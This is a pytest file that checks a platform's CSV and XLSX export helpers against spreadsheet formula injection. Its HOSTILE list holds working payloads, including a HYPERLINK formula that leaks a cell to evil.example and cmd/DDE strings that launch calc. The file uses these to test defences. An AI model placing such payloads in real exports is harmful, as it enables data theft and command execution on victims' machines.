"""Formula injection (security-reliability.md L3): no CSV or XLSX cell the platform writes can run a formula.

The helper is pure (no database): these tests write real CSV text and real XLSX files and read them back.
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest

from prongsai.web.exports import Sheet, csv_bytes, csv_cell, csv_text, looks_like_formula, safe_text, xlsx_bytes

#: the review's payloads and others of the same kinds
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"ดูรายละเอียด")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=cmd",
    "\u3000+cmd",
    "＝1+1",  # full-width equals sign
    "＋cmd",
    "@",
    "=",
    "-",
    "\n=2*3",
    '=DDE("cmd";"/C calc";"!A0")',
]
HARMLESS = [
    "สพป.สมุทรสาคร",
    "โรงเรียนบ้าน = ดี",
    "a=b",
    "1+1",
    "91.25",
    "-1.50",
    "+3",
    "-0.75",
    "",
    "ESA-SKN",
    "(กลุ่มเล็ก ไม่แสดง)",
    "–",
    "#N/A",
    "#REF!",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_recognised_and_neutralised(text):
    assert looks_like_formula(text)
    assert safe_text(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_and_plain_numbers_are_left_alone(text):
    assert not looks_like_formula(text)
    assert csv_cell(text) == text


def test_numbers_stay_numbers():
    assert csv_cell(Decimal("-2.50")) == "-2.50"
    assert csv_cell(-3) == "-3"
    assert csv_cell(-0.5) == "-0.5"
    assert csv_cell(Decimal("91.25")) == "91.25"
    assert csv_cell(None) == ""
    assert csv_cell(True) == "1"


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # Thai Excel needs the byte-order mark
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_file_has_no_cell_that_starts_a_formula():
    rows = [[text, Decimal("-1.25"), -7] for text in HOSTILE + HARMLESS]
    read = _read_csv(csv_bytes(["ชื่อ", "เปลี่ยนแปลง", "ลำดับ"], rows))
    assert read[0] == ["ชื่อ", "เปลี่ยนแปลง", "ลำดับ"]
    for (name, change, rank), original in zip(read[1:], HOSTILE + HARMLESS):
        assert not looks_like_formula(name), name
        assert name == ("'" + original if original in HOSTILE else original)
        assert (change, rank) == ("-1.25", "-7")  # negative numbers are still numbers


def test_csv_header_cells_are_neutralised_too():
    assert _read_csv(csv_bytes(["=cmd", "ok"], []))[0] == ["'=cmd", "ok"]


def test_csv_text_for_the_command_line():
    assert csv_text(["agency", "total"], [["=1+1", "91.25"], ["ok", -2]]) == "agency,total\n'=1+1,91.25\nok,-2\n"


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_writes_text_as_strings_never_formulas():
    import openpyxl

    rows = [[text, Decimal("-1.25"), -7, None] for text in HOSTILE + HARMLESS]
    data = xlsx_bytes([Sheet(title="ranking", header=["=header", "change", "rank", "empty"], rows=rows)])
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet.cell(1, 1).value == "=header" and sheet.cell(1, 1).data_type == "s"
    for row, original in enumerate(HOSTILE + HARMLESS, start=2):
        name, change, rank = (sheet.cell(row, c) for c in (1, 2, 3))
        if original == "":
            assert name.value is None
        else:
            assert name.data_type == "s" and name.value == original, row
        assert name.quotePrefix == looks_like_formula(original), row  # Excel keeps it text when edited
        assert (change.value, change.data_type, rank.value, rank.data_type) == (-1.25, "n", -7, "n")
        assert change.number_format == "0.00"


def test_xlsx_drops_characters_xml_cannot_hold():
    import openpyxl

    data = xlsx_bytes([Sheet(title="x", header=["a"], rows=[["bell\x07 and nul\x00 gone"]])])
    assert openpyxl.load_workbook(io.BytesIO(data)).active.cell(2, 1).value == "bell and nul gone"
